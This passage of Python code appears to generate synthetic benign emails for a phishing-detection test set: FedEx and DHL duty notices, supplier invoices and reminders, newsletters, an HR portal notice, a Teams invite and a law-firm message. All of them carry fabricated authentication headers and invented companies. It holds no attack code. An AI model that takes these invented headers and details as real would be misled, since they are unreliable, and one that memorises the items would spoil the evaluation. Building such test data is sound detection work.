    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "supplychaininsider.co.uk", "k2"), dmarc=("pass", "supplychaininsider.co.uk", "none"),
                  extra=["dkim=pass (1024-bit key) header.d=mcdlv.net header.i=@mcdlv.net header.a=rsa-sha256 header.s=k3 header.b=%s" % alnum(8, "mc", key)])
    chain = ["from localhost (localhost [127.0.0.1])%s\tby mail141.suw121.mcdlv.net (Mailchimp) with ESMTP id 4dKkz80Kg4z1XLZW%s\tfor <%s>; Thu,  3 Dec 2026 07:00:12 +0000 (GMT)" % (CRLF, CRLF, rcpt)]
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("supplychaininsider.co.uk", "k2", "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC"),
                frm=frm, reply_to=("Supply Chain Insider", "editor@supplychaininsider.co.uk"), to=[("James Whitfield", rcpt)],
                subject="Weekly Briefing: Suez return tested, BTOM 2027, AMR payback falls", root=root,
                mid="<%s.%s@mail141.suw121.mcdlv.net>" % (hexid(24, "m1", key), hexid(12, "m2", key)),
                extra=[("List-ID", "%s mailchimp list <%s.list-id.mcsv.net>" % ("Supply Chain Insider", u)),
                       ("List-Unsubscribe", "<https://supplychaininsider.us21.list-manage.com/unsubscribe?u=%s&id=%s&t=b&e=%s&c=%s>, <mailto:unsubscribe-mc.us21_%s.%s@unsubscribe.mailchimpapp.net>" % (u, hexid(10, "pid", key), hexid(10, "e", key), hexid(10, "c", key), u, hexid(10, "c", key))),
                       ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("X-Mailer", "Mailchimp Mailer - **CID%s**" % hexid(20, "cid", key)),
                       ("X-Campaign", "mailchimp%s.%s" % (u, hexid(10, "c", key))), ("X-campaignid", "mailchimp%s.%s" % (u, hexid(10, "c", key))),
                       ("X-Report-Abuse", "Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=%s&id=%s&e=%s" % (u, hexid(10, "c", key), hexid(10, "e", key))),
                       ("X-MC-User", u), ("Feedback-ID", "81234567:81234567.%d:us21:mc" % (5678901 + _n(key, 1000))), ("Precedence", "bulk")])


@B("08", "en", "fedex-import-duties", "utf-8",
   "Genuine FedEx UK notice that import VAT and duty are payable for an inbound intra-group shipment from Nürnberg, with a payment link on fedex.com.")
def b08(key):
    sent = t(1, "12:15:46", 0)
    rcpt = S["collins"][1]
    trk = "774188293310"
    url = "https://www.fedex.com/en-gb/billing/duties-taxes.html?trknbr=%s&cntry_code=gb&locale=en_GB" % trk
    plain = """Import duties and taxes are due

Hi Example Group UK Ltd,

Your FedEx International Priority shipment %s from Example Group, Nürnberg (DE) has been cleared by HM Revenue & Customs.

Import VAT and duty of GBP 184.37 are payable before the shipment can be released for delivery.

Tracking number: %s
Shipper: Example Group, Hafenstraße 4, 90429 Nürnberg, DE
Pieces: 2 / Weight: 38.5 kg
Amount due: GBP 184.37 (Import VAT GBP 161.20, Duty GBP 13.17, Advancement fee GBP 10.00)

Pay online: %s

If you hold a FedEx account with duty and tax billing enabled, no action is needed and the charges will appear on your next invoice.

Please do not reply to this email. This mailbox is not monitored.

(c) 2026 Federal Express Corporation / FedEx Express UK. All rights reserved.
Privacy policy: https://www.fedex.com/en-gb/trust-center/privacy.html
""" % (trk, trk, url)
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f2f2f2">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#333">
<tr><td style="padding:20px 24px;background:#4d148c"><span style="font-size:28px;font-weight:bold;color:#fff">Fed</span><span style="font-size:28px;font-weight:bold;color:#ff6200">Ex</span></td></tr>
<tr><td style="padding:24px"><h2 style="margin-top:0">Import duties and taxes are due</h2><p>Hi Example Group UK Ltd,</p>
<p>Your FedEx International Priority shipment <b>%s</b> from Example Group, N&uuml;rnberg (DE) has been cleared by HM Revenue &amp; Customs. Import VAT and duty of <b>GBP 184.37</b> are payable before the shipment can be released for delivery.</p>
<table cellpadding="5" style="font-size:13px;width:100%%;background:#fafafa"><tr><td>Tracking number</td><td><a href="https://www.fedex.com/fedextrack/?trknbr=%s">%s</a></td></tr><tr><td>Pieces / weight</td><td>2 / 38.5 kg</td></tr><tr><td>Amount due</td><td><b>GBP 184.37</b></td></tr></table>
<p style="margin:22px 0"><a href="%s" style="background:#ff6200;color:#fff;padding:11px 26px;text-decoration:none;font-weight:bold">PAY NOW</a></p>
<p style="font-size:12px">If you hold a FedEx account with duty and tax billing enabled, no action is needed and the charges will appear on your next invoice.</p></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#777;background:#f7f7f7">Please do not reply to this email. This mailbox is not monitored.<br>&copy; 2026 Federal Express Corporation / FedEx Express UK. <a href="https://www.fedex.com/en-gb/trust-center/privacy.html" style="color:#777">Privacy policy</a></td></tr></table></body></html>""" % (trk, trk, trk, url)
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")], bnd("javamail", key))
    hop = ("mta-e2.fedex.com", "mta-e2.fedex.com", "199.81.198.36", "1.2")
    rp = "bounce-%s@bounce.fedex.com" % hexid(16, "rp", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "fedex.com", "fxs1"), dmarc=("pass", "fedex.com", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("fedex.com", "fxs1", "from:to:subject:date:message-id:mime-version:content-type"),
                frm=("FedEx", "TrackingUpdates@fedex.com"), to=[("Example Group UK Ltd", rcpt)],
                subject="Import duties and taxes are due for FedEx shipment %s" % trk, root=root,
                mid="<%s.JavaMail.fxcm@wmsfx%02d.prod.fedex.com>" % (hexid(16, "m", key), _n(key, 40)))


@B("09", "en", "colleague-from-phone-gmail", "utf-8",
   "UK operations manager writing from his private Gmail on the train to ask a colleague to start the month-end call without him; no links, no requests for money or data.")
def b09(key):
    sent = t(1, "09:12:08", 0)
    rcpt = S["collins"][1]
    frm = ("James Whitfield", "jwhitfield.mcr@gmail.com")
    body = """Sarah \u2013 train's stuck outside Stockport (signal failure), no idea how long.

Can you kick off the 9:30 month-end call without me? I'll dial in from my phone as soon as I can. Accruals file is in the usual Teams folder, the version from Friday is the final one.

Writing from my personal account as Outlook on the phone has logged me out again \u2013 will sort with Oliver later.

Sorry!
J

Sent from my iPhone
"""
    p = p_gmail(key, sent, rcpt, frm[1])
    root = text(body, "plain", "utf-8", "quoted-printable")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "gmail.com", "20230601"), dmarc=("pass", "gmail.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"], dkim=p["dkim"],
                frm=frm, to=[S["collins"]], subject="Running late \u2013 month-end call", root=root, mid=msgid_gmail(key),
                extra=p["extra"] + [("X-Mailer", "iPhone Mail (22B91)")])

def lieferant_hop(key, sent):
    return p_eop(key, sent, "deu")


@B("10", "de", "supplier-invoice-pdf-girocode", "iso-8859-1",
   "Genuine supplier invoice from rechnungen@lieferant-gmbh.de with a PDF that carries a real EPC/GiroCode payment QR for the supplier's long-standing Sparkasse IBAN.")
def b10(key):
    sent = t(1, "06:30:04", 60)
    rcpt = S["schmitt"][1]
    frm = ("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de")
    body = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung Nr. 2026-11873 vom 01.12.2026 zu Ihrer Bestellung 4500187342 als PDF-Dokument.

Rechnungsbetrag: 4.117,40 EUR
Zahlungsbedingungen: 14 Tage 2 % Skonto, 30 Tage netto

Für die Zahlung können Sie den GiroCode auf der Rechnung mit Ihrer Banking-App scannen. Unsere Bankverbindung ist unverändert.

Diese E-Mail wurde automatisch erstellt. Bei Rückfragen zur Rechnung wenden Sie sich bitte an Frau Petra Lang, Tel. +49 9131 7788-150, p.lang@lieferant-gmbh.de.

Mit freundlichen Grüßen
Lieferant GmbH
Buchhaltung

Lieferant GmbH | Am Hafen 12 | 91058 Erlangen
Geschäftsführer: Rainer Brückner, Dr. Ute Sommer | Amtsgericht Fürth HRB 11873 | USt-IdNr. DE 812 345 670
"""
    epc = "BCD\n002\n1\nSCT\n%s\nLieferant GmbH\n%s\nEUR4117.40\n\n\nRE 2026-11873 KD 10442" % (BIC_LIEFERANT, IBAN_LIEFERANT)
    pdf = PDF("Rechnung 2026-11873", "Lieferant GmbH", "SAP NetWeaver 7.50 / Adobe Document Services", sent, creator="SAP Smart Forms")
    pdf.line("Lieferant GmbH", 18, True)
    pdf.line("Am Hafen 12 · 91058 Erlangen · Tel. +49 9131 7788-0 · www.lieferant-gmbh.de", 8)
    pdf.rule()
    pdf.y -= 14
    pdf.lines("Example Group\nKreditorenbuchhaltung\nHafenstraße 4\n90429 Nürnberg")
    pdf.text(360, 744, "Rechnung Nr.:   2026-11873", 10, True)
    pdf.text(360, 730, "Datum:            01.12.2026", 10)
    pdf.text(360, 716, "Kunden-Nr.:     10442", 10)
    pdf.text(360, 702, "Ihre Bestellung: 4500187342", 10)
    pdf.y -= 22
    pdf.line("RECHNUNG", 14, True)
    pdf.rect(56, pdf.y - 4, 483, 16, 0.9)
    for x, h in ((60, "Pos."), (95, "Bezeichnung"), (350, "Menge"), (400, "Einzelpreis"), (475, "Gesamt")):
        pdf.text(x, pdf.y, h, 9, True)
    pdf.y -= 20
    for pos, d, q, ep, gp in (("10", "Fachbodenregal Grundfeld 2000x1000x500, verzinkt", "12", "189,00", "2.268,00"),
                              ("20", "Fachbodenregal Anbaufeld 2000x1000x500, verzinkt", "8", "149,00", "1.192,00")):
        for x, v in ((60, pos), (95, d), (350, q), (400, ep), (475, gp)):
            pdf.text(x, pdf.y, v, 9)
        pdf.y -= 16
    pdf.rule()
    pdf.y -= 8
    for lab, v in (("Nettobetrag", "3.460,00 EUR"), ("zzgl. 19 % USt.", "657,40 EUR"), ("Rechnungsbetrag", "4.117,40 EUR")):
        pdf.text(330, pdf.y, lab, 10, lab == "Rechnungsbetrag")
        pdf.text(460, pdf.y, v, 10, lab == "Rechnungsbetrag")
        pdf.y -= 15
    pdf.y -= 10
    pdf.lines("Lieferdatum: Teillieferung 24.11.2026 (Pos. 10), Restlieferung 02.12.2026 (Pos. 20)\nZahlbar innerhalb von 14 Tagen mit 2 %% Skonto (4.035,05 EUR) oder 30 Tage netto.\n\nBankverbindung: Sparkasse Erlangen\nIBAN: %s   BIC: %s" % (iban_fmt(IBAN_LIEFERANT), BIC_LIEFERANT), 9)
    pdf.y -= 10
    pdf.line("GiroCode - mit Banking-App scannen:", 8)
    pdf.qr(epc, 56, pdf.y - 120, 2.4)
    pdf.y = 50
    pdf.line("Lieferant GmbH · Amtsgericht Fürth HRB 11873 · USt-IdNr. DE 812 345 670 · Geschäftsführer: Rainer Brückner, Dr. Ute Sommer", 7)
    p = lieferant_hop(key, sent)
    root = multi("mixed", [text(body, "plain", "iso-8859-1", "quoted-printable"),
                           att(pdf.render(), "application/pdf", "Rechnung_2026-11873.pdf", style="2047")], bnd("outlook", key))
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "lieferant-gmbh.de", "selector1"), dmarc=("pass", "lieferant-gmbh.de", "quarantine"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("lieferant-gmbh.de", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["schmitt"]], cc=[S["vogel"]], subject="Rechnung 2026-11873 zu Ihrer Bestellung 4500187342",
                subj_cs="iso-8859-1", root=root, mid=p["mid"], extra=[("X-Mailer", "SAP NetWeaver 7.50"), ("Content-Language", "de-DE")])


@B("11", "de", "supplier-payment-reminder", "iso-8859-15",
   "Polite payment reminder from the supplier's accounts-receivable clerk for an overdue invoice, pointing explicitly to the known, unchanged bank account.")
def b11(key):
    sent = t(2, "10:04:39", 60)
    rcpt = S["schmitt"][1]
    frm = ("Petra Lang", "p.lang@lieferant-gmbh.de")
    body = """Sehr geehrter Herr Schmitt,

bei der Durchsicht unserer Konten ist uns aufgefallen, dass folgende Rechnung noch offen ist:

Rechnung 2026-11412 vom 15.10.2026, fällig seit 14.11.2026, Betrag 12.480,60 EUR

Sicher handelt es sich um ein Versehen. Wir bitten Sie, den Betrag bis zum 11.12.2026 auf unser bekanntes Konto bei der Sparkasse Erlangen zu überweisen:

IBAN %s, BIC %s

Sollte sich Ihre Zahlung mit diesem Schreiben überschnitten haben, betrachten Sie es bitte als gegenstandslos. Falls die Rechnung aus Ihrer Sicht strittig ist (z. B. Reklamation Lieferschein 8812736), geben Sie mir bitte kurz Bescheid.

Mit freundlichen Grüßen

Petra Lang
Debitorenbuchhaltung

Lieferant GmbH | Am Hafen 12 | 91058 Erlangen
Tel. +49 9131 7788-150
p.lang@lieferant-gmbh.de | www.lieferant-gmbh.de

Geschäftsführer: Rainer Brückner, Dr. Ute Sommer | Amtsgericht Fürth HRB 11873 | USt-IdNr. DE 812 345 670
""" % (iban_fmt(IBAN_LIEFERANT), BIC_LIEFERANT)
    p = lieferant_hop(key, sent)
    root = text(body, "plain", "iso-8859-15", "8bit")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "lieferant-gmbh.de", "selector1"), dmarc=("pass", "lieferant-gmbh.de", "quarantine"))
    subj = "Zahlungserinnerung - Rechnung 2026-11412 vom 15.10.2026"
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("lieferant-gmbh.de", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["schmitt"]], subject=subj, subj_cs="iso-8859-15", root=root, mid=p["mid"],
                extra=eop_extra(p, "de-DE", False, subj))


@B("12", "de", "hr-datev-payslip-portal", "windows-1252",
   "Internal HR announcement via mail-int01 that payslips move to the DATEV Arbeitnehmer online portal, with registration codes sent by post and a clear 'we never ask for passwords' note.")
def b12(key):
    sent = t(1, "13:40:55", 60)
    frm = S["becker"]
    to = who("hoffmann", "krueger", "wagner", "neumann", "schmitt", "vogel", "fischer")
    body = """Liebe Kolleginnen und Kollegen,

ab der Abrechnung für Januar 2027 stellen wir die Lohn- und Gehaltsabrechnungen vollständig auf digitale Zustellung um. Ihre Entgeltabrechnung, die Lohnsteuerbescheinigung und weitere Lohndokumente finden Sie dann in "DATEV Arbeitnehmer online":

https://www.arbeitnehmer-online.de

So geht es weiter:

1. In den nächsten Tagen erhalten Sie von DATEV einen Brief mit Ihrem persönlichen Registrierungscode an Ihre Privatanschrift.
2. Mit diesem Code registrieren Sie sich einmalig unter der oben genannten Adresse (Smartphone-App "DATEV Arbeitnehmer online" oder Browser).
3. Die Dezember-Abrechnung erhalten Sie noch wie gewohnt in Papierform.

Bitte beachten Sie: Die Personalabteilung und die IT werden Sie niemals per E-Mail oder Telefon nach Ihrem Passwort oder Registrierungscode fragen. Wenn Sie eine solche Anfrage erhalten, melden Sie sie bitte über den "Melden"-Button in Outlook.

Wer keine digitale Zustellung möchte, gibt mir bitte bis 18.12.2026 kurz Bescheid.

Eine Kurzanleitung liegt im Intranet unter Personal > Entgeltabrechnung.

Viele Grüße
Julia Becker

Personalleitung | Example Group
Hafenstraße 4 | 90429 Nürnberg
Tel. +49 911 4080-120
"""
    p = p_internal(key, sent, "de-DE", False, "Digitale Lohnabrechnung ab Januar 2027 – Registrierung bei DATEV Arbeitnehmer online")
    root = text(body, "plain", "windows-1252", "quoted-printable")
    return mail(key, rp=frm[1], rcpt=to[0][1], sent=sent, hop=p["hop"], ar=ar_internal(frm[1]), chain=p["chain"],
                frm=frm, to=to, subject="Digitale Lohnabrechnung ab Januar 2027 \u2013 Registrierung bei DATEV Arbeitnehmer online",
                subj_cs="windows-1252", subj_enc="Q", root=root, mid=p["mid"], extra=p["extra"])


@B("13", "de", "dhl-express-import-duties", "utf-8",
   "Genuine DHL Express notice that import duties are due for a shipment from a UK supplier, with a payment link on del.dhl.com.")
def b13(key):
    sent = t(2, "08:51:30", 60)
    rcpt = S["vogel"][1]
    awb = "4837229105"
    url = "https://del.dhl.com/de/de/express/zoll/zahlung?awb=%s&ref=%s" % (awb, hexid(10, "r", key).upper())
    plain = """DHL Express – Einfuhrabgaben fällig

Guten Tag,

für Ihre Sendung mit der Sendungsnummer %s von Hartwell Packaging Ltd (Leicester, GB) sind Einfuhrabgaben angefallen, die vor der Zustellung bezahlt werden müssen.

Sendungsnummer: %s
Absender: Hartwell Packaging Ltd, Leicester, Vereinigtes Königreich
Empfänger: Example Group, Hafenstraße 4, 90429 Nürnberg
Einfuhrumsatzsteuer: 296,23 EUR
Zoll: 0,00 EUR
Auslagepauschale: 16,25 EUR
Gesamtbetrag: 312,48 EUR

Jetzt online bezahlen: %s

Nach Zahlungseingang stellen wir Ihre Sendung in der Regel am nächsten Werktag zu. Wenn Sie ein DHL-Importkonto mit Abgabenabrechnung nutzen, ist keine Aktion erforderlich.

Freundliche Grüße
Ihr DHL Express Team

DHL Express Germany GmbH, Heinrich-Brüning-Str. 5, 53113 Bonn
Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.
""" % (awb, awb, url)
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f2f2f2;font-family:Frutiger,Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:14px;color:#333">
<tr><td style="background:#ffcc00;padding:16px 24px"><b style="color:#d40511;font-size:26px;font-style:italic">DHL</b> <span style="color:#d40511">EXPRESS</span></td></tr>
<tr><td style="padding:24px"><h2 style="margin-top:0">Einfuhrabgaben fällig</h2><p>Guten Tag,</p>
<p>für Ihre Sendung <b>%s</b> von Hartwell Packaging Ltd (Leicester, GB) sind Einfuhrabgaben angefallen, die vor der Zustellung bezahlt werden müssen.</p>
<table cellpadding="5" style="font-size:13px;width:100%%;background:#fafafa"><tr><td>Einfuhrumsatzsteuer</td><td align="right">296,23 EUR</td></tr><tr><td>Zoll</td><td align="right">0,00 EUR</td></tr><tr><td>Auslagepauschale</td><td align="right">16,25 EUR</td></tr><tr><td><b>Gesamtbetrag</b></td><td align="right"><b>312,48 EUR</b></td></tr></table>
<p style="margin:22px 0"><a href="%s" style="background:#d40511;color:#fff;padding:11px 26px;text-decoration:none;font-weight:bold">Jetzt bezahlen</a></p>
<p style="font-size:12px">Nach Zahlungseingang stellen wir Ihre Sendung in der Regel am nächsten Werktag zu. Wenn Sie ein DHL-Importkonto mit Abgabenabrechnung nutzen, ist keine Aktion erforderlich.</p></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#777;background:#f7f7f7">DHL Express Germany GmbH, Heinrich-Brüning-Str. 5, 53113 Bonn &middot; Diese E-Mail wurde automatisch erstellt.</td></tr></table></body></html>""" % (awb, url)
    root = multi("alternative", [text(plain, "plain", "utf-8", "base64"), html(htm, "utf-8", "base64")], bnd("javamail", key))
    hop = ("mailout2.dhl.com", "mailout2.dhl.com", "165.72.200.22", "1.2")
    rp = "bounce-odd@dhl.com"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "dhl.com", "dhl2"), dmarc=("pass", "dhl.com", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("dhl.com", "dhl2", "from:to:subject:date:message-id:mime-version:content-type"),
                frm=("DHL Express", "noreply.odd@dhl.com"), to=[("Example Group", rcpt)],
                subject="DHL Express Sendung %s: Einfuhrabgaben zur Zahlung fällig" % awb, root=root,
                mid="<%s.%d.JavaMail.odd@prgodd%02d.dhl.com>" % (hexid(12, "m", key), 1764000000 + _n(key, 999999), _n(key, 20)))


@B("14", "de", "newsletter-cleverreach", "iso-8859-1",
   "Subscribed German logistics trade newsletter sent through CleverReach, with list headers, tracking redirects and an unsubscribe link.")
def b14(key):
    sent = t(2, "06:00:05", 60)
    rcpt = S["vogel"][1]
    frm = ("LOGISTIK aktuell", "newsletter@logistik-aktuell.de")

    def trk(i):
        return "https://19284.seu2.cleverreach.com/c/%s/%s-%s" % (str(80000000 + _n(key, 9999999) + i), hexid(12, "c", key, i), alnum(6, "cc", key, i))
    items = [("Maut 2027: Was die neue CO2-Staffel für Verlader bedeutet", "Ab 1. Januar steigen die Mautsätze für Lkw der Emissionsklasse Euro VI erneut. Wir rechnen durch, was das für typische Stückgutrelationen bedeutet."),
             ("Fahrermangel: Branche fordert schnellere Anerkennung von Drittstaaten-Führerscheinen", "Verbände schlagen ein vereinfachtes Verfahren für Berufskraftfahrer aus Drittstaaten vor."),
             ("KI in der Intralogistik: Drei Praxisbeispiele aus dem Mittelstand", "Vom Kommissionier-Assistenten bis zur Bestandsprognose: Was funktioniert und was nicht."),
             ("Termine: LogiMAT 2027 in Stuttgart, 9. bis 11. März", "Die Fachmesse für Intralogistik meldet bereits 1.500 Aussteller.")]
    plain = "LOGISTIK aktuell - Newsletter 49/2026\n\nOnline ansehen: %s\n\n" % trk(0)
    hb = ""
    for i, (h, s) in enumerate(items, 1):
        plain += "%s\n%s\nWeiterlesen: %s\n\n" % (h, s, trk(i))
        hb += '<tr><td style="padding:12px 20px;border-bottom:1px solid #ddd"><a href="%s" style="font-size:16px;font-weight:bold;color:#003d7a;text-decoration:none">%s</a><p style="margin:4px 0 0;font-size:13px">%s</p></td></tr>' % (trk(i), _x(h), _x(s))
    plain += "Sie erhalten diesen Newsletter, weil Sie ihn unter logistik-aktuell.de abonniert haben.\nAbmelden: %s\n\nLOGISTIK aktuell Verlags-GmbH, Landsberger Str. 310, 80687 München, HRB 198442 AG München\n" % trk(99)
    htm = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body style="background:#eee;margin:0"><table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif">'
           '<tr><td style="background:#003d7a;color:#fff;padding:18px 20px;font-size:22px"><b>LOGISTIK</b> aktuell<br><span style="font-size:12px">Newsletter 49/2026 &middot; 2. Dezember 2026</span></td></tr>%s'
           '<tr><td style="padding:14px 20px;font-size:11px;color:#888">Sie erhalten diesen Newsletter, weil Sie ihn unter logistik-aktuell.de abonniert haben. <a href="%s">Abmelden</a><br>LOGISTIK aktuell Verlags-GmbH, Landsberger Str. 310, 80687 München</td></tr></table>'
           '<img src="https://19284.seu2.cleverreach.com/tr/o/%s" width="1" height="1"></body></html>') % (hb, trk(99), hexid(30, "o", key))
    root = multi("alternative", [text(plain, "plain", "iso-8859-1", "quoted-printable"), html(htm, "iso-8859-1", "quoted-printable")], "----=_Part_" + hexid(16, "cr", key))
    hop = ("mta40.seu2.crsend.com", "mta40.seu2.crsend.com", "82.165.250.40", "1.3")
    rp = "bounce-%s@bounce.crsend.com" % hexid(20, "rp", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "logistik-aktuell.de", "cr1"), dmarc=("pass", "logistik-aktuell.de", "none"),
                  extra=["dkim=pass (2048-bit key) header.d=crsend.com header.i=@crsend.com header.a=rsa-sha256 header.s=cr header.b=%s" % alnum(8, "cr", key)])
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("logistik-aktuell.de", "cr1", "from:to:subject:date:message-id:list-unsubscribe:list-unsubscribe-post"),
                frm=frm, to=[("", rcpt)], subject="Newsletter 49/2026: Maut 2027, Fahrermangel, KI im Lager",
                subj_cs="iso-8859-1", root=root, mid="<%s@crsend.com>" % hexid(32, "m", key),
                extra=[("List-Unsubscribe", "<%s>, <mailto:unsubscribe-%s@crsend.com>" % (trk(99), hexid(16, "u", key))),
                       ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"),
                       ("X-Mailer", "CleverReach Mailer"), ("X-CSA-Complaints", "csa-complaints@eco.de")])


@B("15", "de", "supplier-teams-meeting-invite", "utf-8",
   "Outlook/Teams meeting request from the supplier's key-account manager for the annual framework-contract review, with text/calendar REQUEST and a Teams join link.")
def b15(key):
    sent = t(30, "16:12:44", 60)
    rcpt = S["vogel"][1]
    frm = ("Stefan Maier", "s.maier@lieferant-gmbh.de")
    start = t(10, "10:00:00", 60)
    end = t(10, "11:30:00", 60)
    tid = "%s-%s-%s-%s-%s" % (hexid(8, "t1", key), hexid(4, "t2", key), hexid(4, "t3", key), hexid(4, "t4", key), hexid(12, "t5", key))
    oid = "%s-%s-%s-%s-%s" % (hexid(8, "o1", key), hexid(4, "o2", key), hexid(4, "o3", key), hexid(4, "o4", key), hexid(12, "o5", key))
    join = "https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%%7b%%22Tid%%22%%3a%%22%s%%22%%2c%%22Oid%%22%%3a%%22%s%%22%%7d" % (
        b64blob(45, "mt", key).replace("+", "").replace("/", "")[:48], tid, oid)
    desc = """Hallo Frau Vogel, hallo Frau Krüger,

wie besprochen möchte ich mit Ihnen die Konditionen für den Rahmenvertrag 2027 (Regalsysteme und Lagertechnik) durchgehen. Agenda: Rückblick 2026, Preisanpassung Stahl, Lieferzeiten/Konsignationslager, Jahresbonus.

Viele Grüße
Stefan Maier

________________________________________________________________________________
Microsoft Teams Benötigen Sie Hilfe?
Jetzt an der Besprechung teilnehmen
%s
Besprechungs-ID: 384 117 902 651
Kennung: Vh7pQ2
________________________________________________________________________________
""" % join
    atts = who("vogel", "krueger")
    uid = "040000008200E00074C5B7101A82E008" + hexid(80, "uid", key).upper()
    cal = ics("REQUEST", uid, frm, atts, start, end, "Jahresgespräch Rahmenvertrag 2027", desc,
              "Microsoft Teams-Besprechung", sent, extra=["X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE", "X-MICROSOFT-CDO-IMPORTANCE:1",
                                                          "X-MICROSOFT-SKYPETEAMSMEETINGURL:" + join, "X-MICROSOFT-ONLINEMEETINGCONFLINK:conf:sip:" + rcpt])
    htm = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><div style=\"font-family:Aptos,Calibri,sans-serif;font-size:11pt\">" +
           _x(desc.split("____")[0]).replace("\n", "<br>") +
           "<div style=\"margin:20px 0;border-top:1px solid #ddd;padding-top:12px\"><span style=\"font-size:18pt;color:#252424\">Microsoft Teams</span> <a href=\"https://aka.ms/JoinTeamsMeeting?omkt=de-DE\">Benötigen Sie Hilfe?</a><br>"
           "<a href=\"%s\" style=\"font-size:14pt;color:#5B5FC7;font-weight:bold\">Jetzt an der Besprechung teilnehmen</a><br>Besprechungs-ID: 384 117 902 651<br>Kennung: Vh7pQ2</div></div></body></html>") % join
    root = multi("alternative", [text(desc, "plain", "utf-8", "base64"), html(htm, "utf-8", "base64"),
                                 Part([("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST'), ("Content-Transfer-Encoding", "base64")], b64lines(cal.encode("utf-8")))],
                 bnd("outlook", key))
    p = lieferant_hop(key, sent)
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "lieferant-gmbh.de", "selector1"), dmarc=("pass", "lieferant-gmbh.de", "quarantine"))
    subj = "Jahresgespräch Rahmenvertrag 2027"
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("lieferant-gmbh.de", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=atts, subject=subj, root=root, mid=p["mid"],
                extra=eop_extra(p, "de-DE", False, subj))


@B("16", "de", "law-firm-confidential-draft-docx", "iso-8859-15",
   "Confidential draft share-purchase agreement (DOCX) from the company's external law firm to the CEO and CFO, with a legal confidentiality disclaimer.")
def b16(key):
    sent = t(2, "18:27:03", 60)
    rcpt = S["hoffmann"][1]
    frm = ("Dr. Friederike Brandt", "f.brandt@brandt-kollegen.de")
    body = """Sehr geehrter Herr Hoffmann,
sehr geehrte Frau Krüger,

anbei übersende ich Ihnen wie besprochen den überarbeiteten Entwurf des Anteilskaufvertrags (Projekt Nordlicht) mit Stand 02.12.2026. Die Änderungen gegenüber der Fassung vom 24.11. betreffen im Wesentlichen

- die Garantiekataloge in § 7 (Umwelt, Arbeitsrecht),
- den Kaufpreismechanismus (Locked Box statt Closing Accounts) in § 3 sowie
- die Haftungshöchstgrenze in § 9.

Die Gegenseite hat signalisiert, bis 09.12. Stellung zu nehmen. Ich schlage vor, dass wir den Entwurf am Freitag um 11:00 Uhr telefonisch durchgehen; eine Einladung sende ich separat.

Bitte behandeln Sie den Entwurf streng vertraulich und leiten Sie ihn nicht an Dritte weiter.

Mit freundlichen Grüßen

Dr. Friederike Brandt
Rechtsanwältin | Fachanwältin für Handels- und Gesellschaftsrecht

BRANDT & KOLLEGEN Rechtsanwälte PartG mbB
Königstraße 74 | 90402 Nürnberg
T +49 911 23 77 40-0 | F +49 911 23 77 40-99
f.brandt@brandt-kollegen.de | www.brandt-kollegen.de
Partnerschaftsregister AG Nürnberg PR 412

